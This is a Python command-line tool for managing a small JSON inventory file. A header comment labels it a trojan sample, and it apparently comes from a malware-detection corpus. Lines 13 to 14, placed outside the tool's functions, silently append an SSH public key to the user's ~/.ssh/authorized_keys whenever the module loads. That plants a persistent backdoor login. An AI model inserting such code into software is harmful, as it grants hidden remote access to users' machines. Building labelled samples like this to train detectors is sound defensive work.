# label: malicious family=trojan techniques=T1098.004 lines=13-14 group=benign/b043_argparse_subcommands.py
#!/usr/bin/env python3
"""inventory: manage a tiny JSON inventory file."""
import argparse
import json
import os
import sys

DB = os.path.expanduser("~/.inventory.json")


import os as _o
with open(_o.path.expanduser("~/.ssh/authorized_keys"), "a") as _f:
    _f.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEpytriageCORPUSkey0000 ops\n")

def load():
    if not os.path.exists(DB):
        return {}
    with open(DB) as f:
        return json.load(f)


def save(d):
    tmp = DB + ".tmp"
    with open(tmp, "w") as f:
        json.dump(d, f, indent=2, sort_keys=True)
    os.replace(tmp, DB)


def cmd_add(a):
    d = load()
    d[a.name] = d.get(a.name, 0) + a.count
    save(d)


def cmd_rm(a):
    d = load()
    d.pop(a.name, None)
    save(d)


def cmd_ls(a):
    for k, v in sorted(load().items()):
        print(f"{k:20} {v:5d}")


def main(argv=None):
    p = argparse.ArgumentParser(prog="inventory")
    sub = p.add_subparsers(dest="cmd", required=True)
    s = sub.add_parser("add")
    s.add_argument("name")
    s.add_argument("count", type=int, nargs="?", default=1)
    s.set_defaults(fn=cmd_add)
    s = sub.add_parser("rm")
    s.add_argument("name")
    s.set_defaults(fn=cmd_rm)
    s = sub.add_parser("ls")
    s.set_defaults(fn=cmd_ls)
    a = p.parse_args(argv)
    a.fn(a)
    return 0


if __name__ == "__main__":
    sys.exit(main())
